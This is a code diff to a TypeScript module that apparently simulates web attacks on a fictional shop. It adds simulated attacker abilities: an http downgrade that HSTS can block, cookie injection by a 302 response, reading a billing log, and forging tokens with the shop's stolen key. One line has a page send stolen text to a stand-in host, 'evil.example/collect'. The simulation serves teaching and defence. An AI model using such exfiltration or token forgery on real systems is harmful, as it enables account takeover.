@@ -3,8 +3,9 @@ import { scriptView } from '#cookies/cookie-jar';
 import { field, type Fields, type HttpRequest } from '#http/message';
 import { encodeUtf8 } from '#text/utf8';
 import type { Attack, Grant, Hands } from './attack';
-import { loadImage, navigate, setTab, submitForm, tabAt, type Place } from '../browser/browser';
-import { issueAccessToken } from '../shop/access-token';
+import { bare, loadImage, navigate, setTab, submitForm, tabAt, type Place } from '../browser/browser';
+import { prepare, receive, upgraded } from '../browser/user-agent';
+import { ISSUER, issueAccessToken, type Issued, type Special } from '../shop/access-token';
 import { bearerFields } from '../shop/bearer';
 import { bareCookie } from '../shop/cookie-draft';
 import { cookiesIn, credentialsIn } from './credentials-in';
@@ -16,7 +17,7 @@ import { defencesOn, protect, shaped } from '../defences';
 import { credentialCalled, type NamedCredential } from '../mode';
 import type { TabId } from '../run/party';
 import { json } from '../shop/response';
-import { ORIGIN } from '../origins';
+import { BILLING_ORIGIN, ORIGIN } from '../origins';
 import { ATTACKER_NAME, ATTACKER_PASSWORD, USERNAME } from '../shop/shop';
 import type { Setup } from '../run/setup';
 import type { Stage } from '../run/stage';
@@ -45,6 +46,65 @@ const lineOf = (request: HttpRequest): string =>
 
 /** All that script kept: the attacker takes each for a token, whatever it looks like. */
 const tokensIn = (values: readonly string[]): Stolen[] => values.map((value) => ({ type: 'token', value }));
+
+/** The http address that the victim opens; undefined: the browser asks by https alone, and says so. */
+const inClear = (stage: Stage, path: string): string | undefined => {
+  const url = new URL(path, ORIGIN).href.replace('https:', 'http:');
+  if (upgraded(stage.world().userAgents.victim, url) !== url) {
+    const says = 'The shop asked for https alone (HSTS), and the browser never falls back to http.';
+    stage.add({ type: 'blocked', says });
+    return undefined;
+  }
+  if (profileOf(stage.setup).triesHttpsFirst.value) {
+    const says = 'The browser tries https first. The attacker blocks it, and the browser falls back to http.';
+    stage.add({ type: 'attacker', says });
+  }
+  return url;
+};
+
+/** The fields of a request as the page's own code prepares it, with its key. @param now of the page's clock. Seconds */
+const preparedBy = (
+  stage: Stage,
+  { method, url, fields }: Pick<HttpRequest, 'method' | 'url' | 'fields'>,
+  now: number,
+): Promise<Fields> =>
+  shaped(stage.setup, fields, (defence, all) =>
+    defence.prepare?.(
+      { method, url: new URL(url, ORIGIN).href, fields: all },
+      {
+        setup: stage.setup,
+        userAgent: 'victim',
+        carrier: stage.mode.carrier(stage.setup),
+        now,
+        documentCookie: field({ fields }, 'Cookie') ?? '',
+        draw: (bytes) => stage.draw(bytes),
+      },
+    ),
+  );
+
+/** A token of the victim's, signed with the shop's key. */
+const issueToken = (stage: Stage, special: Special): Promise<Issued> => {
+  const { setup, mode } = stage;
+  const { server, clock, random } = stage.world();
+  const user = server.users.find(({ name }) => name === USERNAME) ?? { name: USERNAME, role: '' };
+  return issueAccessToken(
+    user,
+    { method: 'POST', url: ORIGIN, fields: [], content: '' },
+    {
+      setup,
+      mode,
+      origin: ORIGIN,
+      now: clock,
+      state: server,
+      random,
+      cache: {},
+      query: () => undefined,
+      send: async () => json({}),
+    },
+    15 * 60,
+    special,
+  );
+};
 
 /**
  * The hands for one attack.
@@ -100,19 +160,7 @@ export const giveHands = (
       ];
       // Whoever has the page's key prepares a request as the page does.
       const prepared = stolen.some(({ type }) => type === 'key')
-        ? await shaped(setup, fields, (defence, all) =>
-            defence.prepare?.(
-              { method, url: new URL(path, ORIGIN).href, fields: all },
-              {
-                setup,
-                userAgent: 'victim',
-                carrier: mode.carrier(setup),
-                now: stage.world().clock,
-                documentCookie: field({ fields }, 'Cookie') ?? '',
-                draw: (bytes) => stage.draw(bytes),
-              },
-            ),
-          )
+        ? await preparedBy(stage, { method, url: path, fields }, stage.world().clock)
         : fields;
       return send(method, path, prepared, content);
     },
@@ -175,6 +223,8 @@ export const giveHands = (
           const values = [...local, ...session].filter((value) => value !== undefined);
           return [...cookiesIn(cookies), ...tokensIn(values)];
         },
+        prepareAhead: (method, url, fields, seconds) =>
+          preparedBy(stage, { method, url, fields }, stage.world().clock + seconds),
         sendHome: async (text) => {
           await page.send('POST', 'https://evil.example/collect', [], text, {
             mode: 'no-cors',
@@ -189,28 +239,69 @@ export const giveHands = (
       const page = openPage(stage, place);
       return {
         send: (...wanted) => page.send(...wanted),
-        form: (method, url, values) => submitForm(stage, place, method, url, values),
+        form: (method, url, content) => submitForm(stage, place, method, url, content),
         image: (url) => loadImage(stage, place, url),
+        link: async (url) => {
+          await navigate(stage, place, url, page.origin);
+        },
       };
     },
     siblingPage: () => {
       need('script on a sibling host');
-      return openPage(stage, { userAgent: 'victim', tab: 'photos' });
+      const place: Place = { userAgent: 'victim', tab: 'photos' };
+      return {
+        ...openPage(stage, place),
+        form: (method, url, content) => submitForm(stage, place, method, url, content),
+      };
+    },
+    seenByService: () => {
+      need('a service of the shop');
+      const seen = stage.steps.flatMap(({ event }) =>
+        event.type === 'exchange' && new URL(event.request.url).origin === BILLING_ORIGIN
+          ? [event.request]
+          : [],
+      );
+      took('log', 'The billing service keeps what it was sent.', seen.flatMap(credentialsIn));
+      return seen.toReversed();
+    },
+    signToken: async () => {
+      need('the signing key');
+      // Named as special, so that no defence has a say in it.
+      const { token } = await issueToken(stage, { issuer: ISSUER });
+      const says = 'The attacker signs a token for Alice with the shop’s key.';
+      stage.add({ type: 'attacker', says, took: [{ type: 'token', value: token }] });
+      return token;
     },
     listen: async (path) => {
       need('the network');
-      const url = new URL(path, ORIGIN).href.replace('https:', 'http:');
-      if (profileOf(setup).triesHttpsFirst.value) {
-        stage.add({
-          type: 'attacker',
-          says: 'The browser tries https first. The attacker blocks it, and the browser falls back to http.',
-        });
-      }
+      const url = inClear(stage, path);
+      if (url === undefined) return undefined;
       await navigate(stage, { userAgent: 'victim', tab: 'second' }, url);
       const last = stage.steps.at(-1)?.event;
       if (last?.type !== 'exchange') return undefined;
       took('network', 'The attacker reads the request on the network.', credentialsIn(last.request));
       return last.request;
+    },
+    answerInClear: async (path, setCookies) => {
+      need('the network');
+      const url = inClear(stage, path);
+      if (url === undefined) return;
+      const wanted = { ...bare('GET', url), topLevelNavigation: true };
+      const { clock, userAgents } = stage.world();
+      const fields: Fields = [
+        ['Location', `${ORIGIN}${path}`],
+        ...setCookies.map((text) => ['Set-Cookie', text] as const),
+      ];
+      await stage.exchange(prepare(userAgents.victim, wanted, clock, setup).request, {
+        by: { type: 'page', userAgent: 'victim', tab: 'second' },
+        initiator: 'navigation',
+        answer: { status: 302, fields, content: '' },
+        receive: (response) => {
+          const { userAgent, storing } = receive(userAgents.victim, wanted, response, clock, setup);
+          stage.setUserAgent('victim', userAgent);
+          return { storing };
+        },
+      });
     },
     log: () => {
       need('a log of requests');
@@ -289,25 +380,7 @@ export const giveHands = (
     },
     otherToken: async (special) => {
       need('a token for another use');
-      const { server, clock, random } = stage.world();
-      const user = server.users.find(({ name }) => name === USERNAME) ?? { name: USERNAME, role: '' };
-      const issued = await issueAccessToken(
-        user,
-        { method: 'POST', url: ORIGIN, fields: [], content: '' },
-        {
-          setup,
-          mode,
-          origin: ORIGIN,
-          now: clock,
-          state: server,
-          random,
-          cache: {},
-          query: () => undefined,
-          send: async () => json({}),
-        },
-        15 * 60,
-        special,
-      );
+      const issued = await issueToken(stage, special);
       stage.setServer(
         `${special.issuer ?? 'The shop'} issues ${special.typ === undefined ? 'a token' : `a token of the type ${special.typ}`} for ${special.audience ?? 'the shop’s API'}, and it comes into the attacker’s hands.`,
         () => issued.state,
